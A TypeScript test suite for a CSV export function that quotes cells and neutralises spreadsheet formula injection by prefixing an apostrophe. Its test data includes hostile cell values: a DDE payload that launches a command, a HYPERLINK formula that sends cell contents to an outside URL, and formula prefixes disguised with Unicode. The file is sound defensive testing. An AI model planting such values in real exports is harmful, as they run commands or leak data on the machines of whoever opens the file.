import { describe, expect, test } from 'vitest'
import { csvFile, withoutGuard } from '@/lib/kernel/csv'

const rowOf = (cell: Parameters<typeof csvFile>[1] extends Iterable<readonly (infer C)[]> ? C : never) =>
  csvFile(['Words'], [[cell]]).split('Words\r\n')[1]!.slice(0, -2)

describe('a file for a spreadsheet', () => {
  test('begins with a BOM and has Windows line ends', () => {
    expect(csvFile(['Name', 'Town'], [['Amira', 'Echuca'], ['Thảo', 'Ballarat']])).toBe(
      '\uFEFFName,Town\r\nAmira,Echuca\r\nThảo,Ballarat\r\n',
    )
  })

  test('is a header alone when there is nothing to list', () => {
    expect(csvFile(['Name'], [])).toBe('\uFEFFName\r\n')
  })

  test.each([
    ['say "hello"', '"say ""hello"""'],
    ['one, two', '"one, two"'],
    ['one; two', '"one; two"'],
    ['first line\nsecond', '"first line\nsecond"'],
    [' with room ', '" with room "'],
    ['plain', 'plain'],
    ['', ''],
  ])('quotes %j only where it must', (text, cell) => expect(rowOf(text)).toBe(cell))

  test.each([
    [null, ''],
    [undefined, ''],
    [-4, '-4'],
    [2.5, '2.5'],
    [true, 'yes'],
    [false, 'no'],
    [new Date('2026-07-21T00:00:00Z'), '2026-07-21T00:00:00.000Z'],
  ])('writes %j', (value, cell) => expect(rowOf(value)).toBe(cell))
})

describe('what a spreadsheet would run', () => {
  const dangerous = [
    '=1+1', '+61 3 9000 0000', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠x',
    '=HYPERLINK("https://example.org?"&A1;"x")', "=cmd|' /C calc'!A0", '\u200B=1', '\u00A0=1',
  ]

  test.each(dangerous)('%j begins with an apostrophe', (text) => {
    expect(rowOf(text).replace(/^"/, '')[0]).toBe("'")
  })

  test.each(dangerous)('%j is as it was when it is read back', (text) => expect(withoutGuard(`'${text}`)).toBe(text))

  test.each(["'tis the season", 'O=K', 'a-b', 'someone@example.org', "'"])('%j is left alone', (text) => {
    expect(rowOf(text)).toBe(text)
    expect(withoutGuard(text)).toBe(text)
  })

  test('in the header too', () => expect(csvFile(['=1'], [])).toBe("\uFEFF'=1\r\n"))

  test('no formula hides behind a quote', () => {
    expect(csvFile(['a'], [['x","=1']])).toBe('\uFEFFa\r\n"x"",""=1"\r\n')
  })
})
